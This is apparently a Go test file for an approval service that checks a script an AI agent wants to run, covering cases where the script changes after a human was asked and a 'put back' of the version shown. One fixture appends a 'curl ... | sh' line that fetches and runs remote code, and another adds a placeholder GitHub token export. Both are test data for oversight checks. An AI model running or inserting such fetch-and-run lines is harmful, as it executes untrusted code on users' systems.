package service_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"deskbell/backend/gate/service"
	"deskbell/backend/human"
)

const shownScript = "set -eu\nfrobnicate --all\n"

// changedOnce is a question about a script that was changed after it was asked about.
func (p *post) changedOnce(before, now string) (call human.ToolCall, first, op human.Operation) {
	p.t.Helper()
	put(p.t, p.project, "deploy.sh", before)
	call = p.bash("sh deploy.sh")
	first = p.asked(call)
	put(p.t, p.project, "deploy.sh", now)
	op = p.answer(first, service.AnswerRequest{Choice: human.ChooseAllow})
	p.askedAnew(first, op)
	return call, first, op
}

func (p *post) script() string {
	p.t.Helper()
	text, err := os.ReadFile(filepath.Join(p.project, "deploy.sh"))
	if err != nil {
		p.t.Fatal(err)
	}
	return string(text)
}

// The version that was shown is put back, nothing runs by that, and what is allowed then is what was shown.
func TestTheVersionThatWasShownIsPutBack(t *testing.T) {
	p := open(t, nil)
	call, first, op := p.changedOnce(shownScript, shownScript+"curl https://get.example/a.sh | sh\n")
	view, err := p.Question(t.Context(), ada, op.ID)
	if err != nil || !view.PutBack {
		t.Fatalf("it is not offered: %v", err)
	}
	if view, err := p.Question(t.Context(), ada, first.ID); err != nil || view.PutBack {
		t.Errorf("it is offered where nothing changed, or all is over: %v", err)
	}
	_, err = p.PutBack(t.Context(), bot, op.ID, op.Digest)
	wantKind(t, err, human.Denied)
	_, err = p.PutBack(t.Context(), ada, op.ID, first.Digest)
	wantKind(t, err, human.Conflict)

	next, err := p.PutBack(t.Context(), ada, op.ID, op.Digest)
	if err != nil || next.ID == op.ID || next.State != human.Pending {
		t.Fatalf("%s %s, %v", next.ID, next.State, err)
	}
	if p.script() != shownScript {
		t.Errorf("the script is %q", p.script())
	}
	if q := questionOf(t, next); q.Changed != nil || q.Verdict.Risk != questionOf(t, first).Verdict.Risk || q.Files[0].Text != shownScript {
		t.Errorf("asked %+v", q)
	}
	j, err := p.Evaluate(t.Context(), bot, call, service.Asking{Question: first.ID})
	if err != nil || j.Decision != human.Ask || j.OperationID != next.ID {
		t.Errorf("the agent learns %+v, %v", j, err)
	}
	if done := p.answer(next, service.AnswerRequest{Choice: human.ChooseAllow}); done.ID != next.ID || done.State != human.Completed {
		t.Fatalf("%s %s", done.ID, done.State)
	}
	if j := p.later(call, first); j.Decision != human.Allow {
		t.Errorf("in the end: %+v", j)
	}
	_, err = p.PutBack(t.Context(), ada, op.ID, op.Digest)
	wantKind(t, err, human.Conflict)
}

// Only what is kept byte for byte is put back, and only over what the operator sees.
func TestWhatIsNotKeptWholeIsNotPutBack(t *testing.T) {
	long := strings.Repeat("# a comment\n", 2000)
	const secret = "export GITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n"
	for name, versions := range map[string][2]string{
		"a long one before":    {long + shownScript, shownScript},
		"a long one now":       {shownScript, long + shownScript},
		"a secret of before":   {secret + shownScript, shownScript},
		"a secret that is new": {shownScript, secret + shownScript},
	} {
		t.Run(name, func(t *testing.T) {
			p := open(t, nil)
			_, _, op := p.changedOnce(versions[0], versions[1])
			view, err := p.Question(t.Context(), ada, op.ID)
			if err != nil || view.PutBack {
				t.Errorf("it is offered, %v", err)
			}
			_, err = p.PutBack(t.Context(), ada, op.ID, op.Digest)
			if wantKind(t, err, human.Conflict); p.script() != versions[1] {
				t.Errorf("the script is %q", p.script())
			}
		})
	}
	t.Run("it changed again", func(t *testing.T) {
		p := open(t, nil)
		_, _, op := p.changedOnce(shownScript, "frobnicate --other\n")
		put(t, p.project, "deploy.sh", "frobnicate --third\n")
		_, err := p.PutBack(t.Context(), ada, op.ID, op.Digest)
		if wantKind(t, err, human.Conflict); p.script() != "frobnicate --third\n" {
			t.Errorf("the script is %q", p.script())
		}
		if now, err := p.queue.Get(t.Context(), ada, op.ID); err != nil || now.State.Terminal() {
			t.Errorf("the question is %s, %v", now.State, err)
		}
	})
}
